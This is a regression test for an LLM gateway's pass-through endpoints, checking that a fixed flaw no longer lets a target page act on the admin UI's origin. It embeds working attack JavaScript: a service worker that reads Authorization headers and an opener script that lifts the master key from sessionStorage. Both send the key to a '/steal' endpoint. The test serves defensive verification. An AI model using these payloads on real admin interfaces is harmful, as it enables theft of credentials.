/// <reference lib="dom" />
/**
 * The attack: a pass-through entry with `auth: false` serves its target's answers on the gateway's
 * own origin — the admin UI's origin, where the signed-in key lives (sessionStorage) and every
 * API call carries it. A target that answers HTML (or sends no content-type, which a browser then
 * sniffs) ran its script as if it were the admin UI, and the gateway relayed the target's
 * `Service-Worker-Allowed: /`: one visit to such a page registered a service worker scoped to "/"
 * (it controls /ui/ too), which read the `Authorization: Bearer <master key>` of every request the
 * admin UI made after the next sign-in, in any tab, until the worker was removed by hand. Without
 * the header, the page could still open /ui/ itself and read the key from the window it opened
 * once the administrator signed in there.
 *
 * Now every pass-through answer carries `Content-Security-Policy: sandbox` (a page from the target
 * is an opaque origin: no script, no storage of the gateway's origin, no service worker) and
 * `X-Content-Type-Options: nosniff`, and `Service-Worker-Allowed` is not relayed. API answers
 * (JSON, SSE, files) pass unchanged.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumOrSkip } from '../support/browser.js';
import { MASTER_KEY, startGateway, type TestGateway } from '../support/gateway.js';

/** What the target learnt: the Authorization headers a worker or a page of its own sent back. */
const stolen: string[] = [];
let target: Server;
let gateway: TestGateway;

const PAGE = `<!doctype html><title>loading</title><script>
navigator.serviceWorker.register('/open/sw.js', { scope: '/' }).then((r) => { document.title = 'registered ' + r.scope; }, (e) => { document.title = 'refused ' + e.name; });
</script>`;
const WORKER = `self.addEventListener('install', (e) => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => { const a = e.request.headers.get('authorization'); if (a) fetch('/open/steal?a=' + encodeURIComponent(a)); });`;
const OPENER = `<!doctype html><title>opener</title><button id="go">Open the admin UI</button><script>
go.onclick = () => { const w = window.open('/ui/'); const t = setInterval(() => { try { const s = w.sessionStorage.getItem('switchboard.session'); if (s) { clearInterval(t); fetch('/open/steal?a=' + encodeURIComponent('Bearer ' + JSON.parse(s).key)); } } catch {} }, 100); };
</script>`;

beforeAll(async () => {
  target = createServer((request: IncomingMessage, response) => {
    const url = new URL(request.url ?? '/', 'http://target');
    request.resume();
    if (url.pathname === '/steal') {
      stolen.push(url.searchParams.get('a') ?? '');
      return response.end('ok');
    }
    if (url.pathname === '/page.html') {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': "default-src * 'unsafe-inline'" });
      return response.end(PAGE);
    }
    if (url.pathname === '/opener.html') {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      return response.end(OPENER);
    }
    if (url.pathname === '/untyped') {
      response.writeHead(200);
      return response.end('<script>document.title = "sniffed"</script>');
    }
    if (url.pathname === '/sw.js') {
      response.writeHead(200, { 'content-type': 'text/javascript', 'service-worker-allowed': '/' });
      return response.end(WORKER);
    }
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify({ ok: true, path: url.pathname }));
  });
  await new Promise<void>((resolve) => target.listen(0, '127.0.0.1', resolve));
  gateway = await startGateway(`
model_list: []
general_settings:
  master_key: ${MASTER_KEY}
  pass_through_endpoints:
    - path: /open
      target: http://127.0.0.1:${(target.address() as AddressInfo).port}
      include_subpath: true
      auth: false
`);
});

afterAll(async () => {
  await gateway?.close();
  await new Promise<void>((resolve) => target?.close(() => resolve()));
});

describe('pass-through answers cannot act as the admin UI', () => {
  it('an HTML page from the target is sandboxed (the target\'s own policy does not replace it) and never sniffed', async () => {
    for (const path of ['/open/page.html', '/open/opener.html', '/open/untyped']) {
      const response = await fetch(`${gateway.url}${path}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-security-policy')).toBe('sandbox');
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      await response.text();
    }
  });

  it('the target cannot widen a service worker\'s scope to the gateway\'s root', async () => {
    const response = await fetch(`${gateway.url}/open/sw.js`);
    expect(response.status).toBe(200);
    expect(response.headers.get('service-worker-allowed')).toBeNull();
    expect(await response.text()).toBe(WORKER);
  });

  it('API answers still pass through unchanged', async () => {
    const response = await fetch(`${gateway.url}/open/v1/things?x=1`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/json\b/);
    expect(await response.json()).toEqual({ ok: true, path: '/v1/things' });
  });
});

const chromiumPath = chromiumOrSkip('item-127 browser');

describe.skipIf(!chromiumPath)('in a real browser, the master key of a later sign-in stays in the admin UI', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await chromium.launch({ executablePath: chromiumPath!, args: ['--no-sandbox'] });
  });

  afterAll(async () => {
    await browser?.close();
  });

  async function signIn(page: import('playwright-core').Page): Promise<void> {
    await page.getByLabel('API key').fill(MASTER_KEY);
    await page.getByRole('button', { name: /sign in/i }).click();
    await page.getByRole('heading', { name: 'Dashboard' }).waitFor({ timeout: 10_000 });
    // Time for a worker's or an opener's beacon to arrive.
    await page.waitForTimeout(1_000);
  }

  it('a visited pass-through page registers no service worker over /ui/', async () => {
    stolen.length = 0;
    const context = await browser.newContext();
    try {
      const visit = await context.newPage();
      await visit.goto(`${gateway.url}/open/page.html`);
      await visit.waitForTimeout(1_000);
      // Sandboxed, its script never runs (before the fix: "registered http://127.0.0.1:…/").
      const title = await visit.title();
      await visit.close();
      const ui = await context.newPage();
      await ui.goto(`${gateway.url}/ui/`);
      await signIn(ui);
      expect(stolen).toEqual([]);
      expect(await ui.evaluate(() => navigator.serviceWorker.controller === null)).toBe(true);
      expect(title).toBe('loading');
    } finally {
      await context.close();
    }
  });

  it('a pass-through page cannot read the key from a UI window it opened', async () => {
    stolen.length = 0;
    const context = await browser.newContext();
    try {
      const visit = await context.newPage();
      await visit.goto(`${gateway.url}/open/opener.html`);
      const opened = context.waitForEvent('page', { timeout: 3_000 }).catch(() => null);
      await visit.click('#go');
      // Sandboxed, the button does nothing; before the fix it opened /ui/ and watched its storage.
      const ui = (await opened) ?? (await context.newPage());
      if (ui.url() === 'about:blank') await ui.goto(`${gateway.url}/ui/`);
      await ui.waitForLoadState();
      await signIn(ui);
      expect(stolen).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
